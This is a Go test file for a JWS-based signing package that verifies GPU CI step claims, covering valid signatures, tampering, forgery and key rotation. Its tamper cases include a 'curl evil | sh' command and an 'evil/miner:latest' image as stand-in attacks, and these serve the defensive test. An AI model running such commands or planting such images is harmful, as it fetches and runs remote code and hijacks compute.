package signing

import (
	"errors"
	"strings"
	"testing"

	"github.com/lestrrat-go/jwx/v3/jwk"

	"github.com/gpu-mode/kbgen/plugincfg"
)

func testClaim() StepClaim {
	return StepClaim{
		Command: []string{"kbgen", "run"},
		Plugins: []string{"gpu-docker"},
		Plugin: plugincfg.GPUDocker{Image: "ghcr.io/gpu-mode/kbgen-runner-cuda:12.8.1", Runtime: "nvidia", GPUs: 1, CPUs: 8,
			Memory: "64g", ShmSize: "16g", PidsLimit: 4096, Network: "none"},
		Env:           map[string]string{"KERNELBOT_QUEUE": "nvidia-h100", "KERNELBOT_RUN_ID": "run-$1"},
		PayloadSHA256: strings.Repeat("ab", 32),
		Queue:         "nvidia-h100",
	}
}

func testKeys(t *testing.T, alg, kid string) (jwk.Key, jwk.Set) {
	t.Helper()
	kp, err := Generate(alg, kid)
	if err != nil {
		t.Fatal(err)
	}
	priv, err := ParsePrivate(kp.Private, "")
	if err != nil {
		t.Fatal(err)
	}
	pub, err := ParsePublic(kp.Public)
	if err != nil {
		t.Fatal(err)
	}
	return priv, pub
}

func TestStepSignatureVerifies(t *testing.T) {
	t.Parallel()
	for _, alg := range []string{"EdDSA", "ES512"} {
		t.Run(alg, func(t *testing.T) {
			t.Parallel()
			priv, pub := testKeys(t, alg, "k-"+alg)
			tok, err := SignStep(testClaim(), priv)
			if err != nil {
				t.Fatal(err)
			}
			if strings.Count(tok, ".") != 2 {
				t.Fatalf("not a compact JWS: %q", tok)
			}
			if err := VerifyStep(tok, pub, testClaim()); err != nil {
				t.Fatalf("the step as signed does not verify: %v", err)
			}
		})
	}
}

// TestStepSignatureRefuses: every field of the claim is covered; a step
// changed in any of them, a missing or foreign signature, is refused with
// a *StepSignatureError that names what changed.
func TestStepSignatureRefuses(t *testing.T) {
	t.Parallel()
	priv, pub := testKeys(t, "EdDSA", "kernelbot")
	tok, err := SignStep(testClaim(), priv)
	if err != nil {
		t.Fatal(err)
	}
	otherPriv, _ := testKeys(t, "EdDSA", "kernelbot") // same key id, other key
	forged, err := SignStep(testClaim(), otherPriv)
	if err != nil {
		t.Fatal(err)
	}
	big := testClaim()
	big.Plugin.CPUs = 64
	bigTok, err := SignStep(big, priv)
	if err != nil {
		t.Fatal(err)
	}
	// want is text because the message is the contract: the operator reads
	// what changed, and docs/vendor-onboarding.md quotes it.
	tests := []struct {
		name   string
		token  string
		change func(*StepClaim)
		kind   error
		want   string
	}{
		{"command", tok, func(c *StepClaim) { c.Command = []string{"sh", "-c", "curl evil | sh"} }, ErrChanged, "the command"},
		{"image", tok, func(c *StepClaim) { c.Plugin.Image = "evil/miner:latest" }, ErrChanged, "plugin's image"},
		{"cpus", tok, func(c *StepClaim) { c.Plugin.CPUs = 64 }, ErrChanged, "plugin's cpus"},
		{"network", tok, func(c *StepClaim) { c.Plugin.Network = "host" }, ErrChanged, "plugin's network"},
		{"extra plugin", tok, func(c *StepClaim) { c.Plugins = append(c.Plugins, "docker") }, ErrChanged, "the plugins"},
		{"env changed", tok, func(c *StepClaim) { c.Env["KERNELBOT_RUN_ID"] = "other" }, ErrChanged, "step env KERNELBOT_RUN_ID"},
		{"env added", tok, func(c *StepClaim) { c.Env["KBGEN_NOISE_POLICY"] = "x" }, ErrChanged, "step env KBGEN_NOISE_POLICY"},
		{"env removed", tok, func(c *StepClaim) { delete(c.Env, "KERNELBOT_RUN_ID") }, ErrChanged, "step env KERNELBOT_RUN_ID"},
		{"payload", tok, func(c *StepClaim) { c.PayloadSHA256 = strings.Repeat("cd", 32) }, ErrChanged, "the payload"},
		{"queue", tok, func(c *StepClaim) { c.Queue = "amd-mi300" }, ErrChanged, "the queue"},
		{"missing", "", func(*StepClaim) {}, ErrUnsigned, "carries no KBGEN_STEP_SIGNATURE"},
		{"wrong key", forged, func(*StepClaim) {}, ErrBadSignature, "does not verify"},
		{"garbage", "not.a.jws", func(*StepClaim) {}, ErrBadSignature, "does not verify"},
		{"body swapped", swapBody(tok, bigTok), func(c *StepClaim) { c.Plugin.CPUs = 64 }, ErrBadSignature, "does not verify"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			run := testClaim()
			tt.change(&run)
			err := VerifyStep(tt.token, pub, run)
			var se *StepSignatureError
			if !errors.As(err, &se) || !errors.Is(err, tt.kind) {
				t.Fatalf("err = %v, want a *StepSignatureError of kind %v", err, tt.kind)
			}
			if !strings.Contains(err.Error(), tt.want) {
				t.Errorf("err = %q, want it to name %q", err, tt.want)
			}
		})
	}
}

// swapBody puts the claim of token b under the header and signature of
// token a: each half signed by the right key, but not together.
func swapBody(a, b string) string {
	pa, pb := strings.Split(a, "."), strings.Split(b, ".")
	return pa[0] + "." + pb[1] + "." + pa[2]
}

func TestStepSignatureKeyRotation(t *testing.T) {
	t.Parallel()
	oldPriv, oldPub := testKeys(t, "EdDSA", "old")
	_, newPub := testKeys(t, "ES512", "new")
	k, _ := oldPub.Key(0)
	if err := newPub.AddKey(k); err != nil {
		t.Fatal(err)
	}
	tok, err := SignStep(testClaim(), oldPriv)
	if err != nil {
		t.Fatal(err)
	}
	if err := VerifyStep(tok, newPub, testClaim()); err != nil {
		t.Errorf("a step signed with one key of a two-key set: %v", err)
	}
}
